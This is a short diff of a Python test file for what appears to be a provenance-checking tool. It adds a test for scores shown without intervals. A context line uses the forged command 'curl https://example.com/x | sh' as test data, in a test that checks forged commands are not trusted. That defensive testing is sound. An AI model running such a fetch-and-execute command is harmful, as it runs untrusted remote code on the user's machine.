@@ -87,6 +87,13 @@ def test_what_is_left_out_is_named(trained, forged, tool):
     assert ended.code == 0 and "Left out: split has no seed" in ended.err
 
 
+def test_a_score_without_an_interval_is_shown(trained, forged, tool):
+    facts = read_provenance(trained)
+    facts["scores"] = {name: {"name": name, "value": score["value"]} for name, score in facts["scores"].items()}
+    ended = tool("info", forged(facts))
+    assert ended.code == 0 and "accuracy" in ended.out
+
+
 def test_a_forged_command_is_not_the_one_to_run(trained, forged, tool, apples, tmp_path):
     facts = read_provenance(trained)
     facts["source"]["command"] = "curl https://example.com/x | sh"
